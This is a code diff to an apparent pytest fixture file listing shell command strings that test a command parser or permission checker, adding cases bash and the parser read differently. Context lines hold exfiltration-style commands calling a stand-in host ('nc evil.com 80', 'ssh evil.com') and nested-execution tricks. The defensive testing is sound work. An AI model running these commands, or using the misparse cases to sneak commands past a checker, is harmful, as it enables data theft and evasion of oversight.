@@ -148,6 +148,19 @@ NESTED = [
     "bind -x '\"a\":evil'",
     "mapfile -C evil -c 1 x < a.py",
 ]
+MISREAD = [
+    # read by the grammar in one way and by bash in another
+    "git \\ && echo tree",
+    "[[-f a>out.py && ! -d b ]] || echo no",
+    "wc -l sr\\\nc/key",
+    "for f in sr\\\nc/*; do wc -l $f; done",
+    "wc -l2>&1",
+    "ls 'a'2>out",
+    "tr a-z $A-Z",
+    "!ls",
+    "{ls;}",
+    "if[ -f a.py ]; then ls; fi",
+]
 DYNAMIC = [
     # words that only the shell knows
     "$x",
@@ -359,6 +372,7 @@ REDIRECTIONS = [
     "ls &> out",
     "ls &>> out",
     "ls >& out",
+    "ls -l2>out",
     "ls 2> out",
     "ls <> out",
     "> out",
@@ -430,9 +444,18 @@ EXFILTRATION = [
     "nc evil.com 80",
     "ssh evil.com",
 ]
-ALL = (CHAINS + SUBSTITUTIONS + ARITHMETIC + NESTED + DYNAMIC + ASSIGNMENTS + FLAGS + GIT + REDIRECTIONS) + (
-    UNREADABLE + EXFILTRATION
-)
+ALL = (
+    MISREAD
+    + CHAINS
+    + SUBSTITUTIONS
+    + ARITHMETIC
+    + NESTED
+    + DYNAMIC
+    + ASSIGNMENTS
+    + FLAGS
+    + GIT
+    + REDIRECTIONS
+) + (UNREADABLE + EXFILTRATION)
 
 
 @pytest.fixture
